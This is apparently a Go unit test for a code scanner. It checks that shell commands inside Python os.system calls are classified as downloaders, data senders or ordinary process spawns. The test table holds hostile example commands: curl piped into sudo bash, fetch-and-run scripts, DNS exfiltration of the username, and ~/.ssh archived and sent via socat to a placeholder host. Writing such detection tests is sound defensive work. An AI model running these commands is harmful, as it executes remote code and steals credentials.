package inspect

import (
	"testing"

	"github.com/adderstone/adderstone/internal/source"
)

func TestCommandsAreJudgedByTheirPrograms(t *testing.T) {
	for command, want := range map[string]kind{
		"curl -s http://192.0.2.1/a | sudo bash -s":            mentionsDownloader,
		"lwp-request x; aria2c -o f http://192.0.2.1/f; sh f":  mentionsDownloader,
		"sh <(fetch -o - http://192.0.2.1/a)":                  mentionsDownloader,
		"echo aGk= | base32 -d | perl":                         mentionsDownloader,
		"dig $(whoami | xxd -p).zone.example":                  sends,
		"tar c ~/.ssh | socat - tcp:192.0.2.1:80":              sends,
		"ping -c 1 example.com && echo up":                     spawns, // and nothing else
		"git describe $(git rev-list --tags)":                  spawns,
		"cat log | grep x | sort | uniq -c":                    spawns,
		"curl -o data.csv https://data.example/a; wc data.csv": spawns,
	} {
		text := "import os\nos.system(" + `"` + command + `"` + ")\n"
		c := newCode(moduleOf(source.NewFile("run.py", text)), "shop/run.py", 0)
		got := spawns
		for _, s := range c.signals {
			if (s.kind == mentionsDownloader || s.kind == sends) && s.at.Start == 10 {
				got = s.kind
			}
		}
		if got != want {
			t.Errorf("%s: %s, want %s", command, kindNames[got], kindNames[want])
		}
	}
}
